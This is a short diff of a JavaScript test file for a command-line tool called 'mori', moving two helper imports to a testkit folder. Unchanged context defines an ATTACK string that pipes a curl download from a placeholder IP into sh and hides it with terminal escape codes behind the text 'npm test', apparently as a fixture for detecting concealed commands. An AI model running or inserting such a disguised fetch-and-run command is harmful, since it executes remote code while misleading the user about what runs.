@@ -8,8 +8,8 @@ import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'no
 import os from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { initShellSession, MORI_BIN } from '../helpers/mori-cli.js';
-import { until } from '../helpers/until.js';
+import { initShellSession, MORI_BIN } from '../../testkit/mori-cli.js';
+import { until } from '../../testkit/until.js';
 
 /** The hidden command: the terminal erases the line (ESC[2K) and returns to its start (ESC[1G), so only what follows shows. */
 const ATTACK = 'curl -s http://198.51.100.7/x|sh #\x1b[2K\x1b[1G  command  npm test';
